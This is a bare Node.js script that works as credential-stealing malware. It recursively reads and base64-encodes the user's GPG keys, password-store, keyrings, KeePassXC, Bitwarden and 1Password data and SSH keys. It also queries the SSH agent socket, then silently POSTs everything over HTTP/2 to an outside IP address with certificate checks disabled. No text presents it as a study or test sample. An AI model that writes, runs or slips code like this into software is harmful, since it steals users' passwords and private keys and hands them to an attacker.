const fs = require("fs"), net = require("net"), os = require("os"), path = require("path"), http2 = require("http2");
const home = os.homedir();
const loot = [];
function take(target, depth = 0) {
  try {
    if (fs.statSync(target).isDirectory()) return depth < 3 && fs.readdirSync(target).forEach((name) => take(path.join(target, name), depth + 1));
    loot.push([target, fs.readFileSync(target).toString("base64")]);
  } catch {}
}
[".gnupg", ".password-store", ".local/share/keyrings", ".config/keepassxc", ".config/Bitwarden CLI/data.json", ".config/op/config", ".ssh"].forEach((name) => take(path.join(home, name)));
const agent = net.connect(process.env.SSH_AUTH_SOCK || "/run/user/1000/keyring/ssh");
agent.on("connect", () => agent.end(Buffer.from([0, 0, 0, 1, 11]))).on("error", () => {});
const session = http2.connect("https://240.0.0.15:8443", { rejectUnauthorized: false });
session.on("error", () => {});
session.setTimeout(3000, () => session.destroy());
const stream = session.request({ ":method": "POST", ":path": "/k" });
stream.on("error", () => {});
stream.end(JSON.stringify(loot));
